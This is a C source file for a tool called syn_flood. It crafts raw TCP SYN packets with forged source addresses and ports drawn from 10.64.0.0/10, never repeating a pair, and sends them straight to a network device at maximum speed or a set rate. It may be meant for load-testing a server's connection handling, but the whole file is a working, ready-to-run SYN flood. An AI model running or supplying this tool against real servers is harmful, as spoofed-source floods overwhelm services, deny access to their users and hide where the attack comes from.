/*
 * SYNs as fast as this machine makes them, each of another client: addresses and ports of
 * 10.64.0.0/10, never the same pair again. Straight to the device, past its queue:
 * packet(7), PACKET_QDISC_BYPASS. Prints how many were sent.
 *
 *     syn_flood DEVICE LINK-ADDRESS SERVER PORT COUNT [PER-SECOND]
 *
 * PORT 0: of 50,000 ports in turn. COUNT 0: until the standard input ends.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, FRAME = 14 + 20 + 20, IP = 14, TCP = 34 };
enum { FIRST_PORT = 10000, N_PORTS = 50000 };

#define NET 0x0a400000U /* 10.64.0.0/10 */

struct flood {
	int fd;
	uint32_t server;
	unsigned port;
	uint64_t n_wanted, n_sent;
	uint64_t per_second; /* 0: as fast as it goes */
	uint8_t frames[BATCH][FRAME];
	struct iovec pieces[BATCH];
	struct mmsghdr messages[BATCH];
};

static void put16(uint8_t *at, unsigned value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value & 0xffff);
}

/* RFC 1071, over an even number of bytes. */
static uint32_t sum(const uint8_t *at, unsigned len, uint32_t start)
{
	for (unsigned i = 0; i < len; i += 2)
		start += (uint32_t)at[i] << 8 | at[i + 1];
	return start;
}

static unsigned fold(uint32_t value)
{
	value = (value & 0xffff) + (value >> 16);
	value += value >> 16;
	return ~value & 0xffff;
}

static void put_checksums(uint8_t *frame)
{
	put16(frame + IP + 10, 0);
	put16(frame + IP + 10, fold(sum(frame + IP, 20, 0)));
	put16(frame + TCP + 16, 0);
	put16(frame + TCP + 16, fold(sum(frame + IP + 12, 28, 6 + 20)));
}

/* An odd factor: no two numbers below 2^32 have the same product. */
static void fill(struct flood *f, uint8_t *frame, uint64_t number)
{
	uint32_t client = (uint32_t)number * 2654435761U;

	put32(frame + IP + 12, NET | (client & 0x3fffff));
	put16(frame + TCP, 1024 + (client >> 22));
	put16(frame + TCP + 2,
	      f->port ? f->port : FIRST_PORT + (unsigned)(number % N_PORTS));
	put32(frame + TCP + 4, client ^ 0x5bd1e995U);
	put_checksums(frame);
}

static void make_frame(const struct flood *f, uint8_t *frame, const uint8_t *link)
{
	memset(frame, 0, FRAME);
	memcpy(frame, link, 6);
	frame[6] = 2; /* locally administered */
	put16(frame + 12, ETHERTYPE_IP);
	frame[IP] = 0x45;
	put16(frame + IP + 2, FRAME - IP);
	frame[IP + 8] = 64;
	frame[IP + 9] = 6;
	put32(frame + IP + 16, f->server);
	frame[TCP + 12] = 5 << 4;
	frame[TCP + 13] = 2;
	put16(frame + TCP + 14, 64240);
}

static int open_device(const char *name)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET,
				 .sll_ifindex = (int)if_nametoindex(name)};
	int on = 1, fd = socket(AF_PACKET, SOCK_RAW, 0); /* 0: receives nothing */

	if (fd < 0 || !at.sll_ifindex ||
	    bind(fd, (struct sockaddr *)(void *)&at, sizeof(at)) ||
	    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)))
		return -1;
	return fd;
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static bool has_input_ended(void)
{
	char byte;

	return read(STDIN_FILENO, &byte, 1) == 0;
}

static void keep_pace(const struct flood *f, double start_s)
{
	double due_s = start_s + (double)f->n_sent / (double)f->per_second;
	double left_s = due_s - now_s();

	if (left_s > 0)
		usleep((useconds_t)(left_s * 1e6));
}

/* 0 or -errno. */
static int send_batch(struct flood *f, unsigned n)
{
	for (unsigned i = 0; i < n; i++)
		fill(f, f->frames[i], f->n_sent + i);
	for (unsigned done = 0; done < n;) {
		int got = sendmmsg(f->fd, f->messages + done, n - done, 0);

		if (got < 0 && errno != ENOBUFS && errno != EINTR && errno != EAGAIN)
			return -errno;
		done += got > 0 ? (unsigned)got : 0;
	}
	f->n_sent += n;
	return 0;
}

static int run(struct flood *f)
{
	double start_s = now_s();
	int error = 0;

	while (!error && (!f->n_wanted || f->n_sent < f->n_wanted)) {
		uint64_t left = f->n_wanted ? f->n_wanted - f->n_sent : BATCH;

		if (!f->n_wanted && has_input_ended())
			break;
		error = send_batch(f, left < BATCH ? (unsigned)left : BATCH);
		if (f->per_second)
			keep_pace(f, start_s);
	}
	printf("%llu %.3f\n", (unsigned long long)f->n_sent, now_s() - start_s);
	return error;
}

static void set_up(struct flood *f, const uint8_t *link)
{
	for (unsigned i = 0; i < BATCH; i++) {
		make_frame(f, f->frames[i], link);
		f->pieces[i] = (struct iovec){f->frames[i], FRAME};
		f->messages[i].msg_hdr =
			(struct msghdr){.msg_iov = &f->pieces[i], .msg_iovlen = 1};
	}
}

int main(int argc, char **argv)
{
	static struct flood f;
	uint8_t link[6];
	int error;

	if (argc < 6 || argc > 7 ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", link, link + 1, link + 2,
		   link + 3, link + 4, link + 5) != 6 ||
	    inet_pton(AF_INET, argv[3], &f.server) != 1) {
		fprintf(stderr, "usage: syn_flood DEVICE LINK-ADDRESS SERVER PORT COUNT "
				"[PER-SECOND]\n");
		return 2;
	}
	f.server = ntohl(f.server);
	f.port = (unsigned)atoi(argv[4]) & 0xffff;
	f.n_wanted = strtoull(argv[5], NULL, 10);
	f.per_second = argc > 6 ? strtoull(argv[6], NULL, 10) : 0;
	f.fd = open_device(argv[1]);
	if (f.fd < 0 || (!f.n_wanted && fcntl(STDIN_FILENO, F_SETFL, O_NONBLOCK))) {
		fprintf(stderr, "syn_flood: %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	set_up(&f, link);
	error = run(&f);
	if (error)
		fprintf(stderr, "syn_flood: %s\n", strerror(-error));
	return error != 0;
}
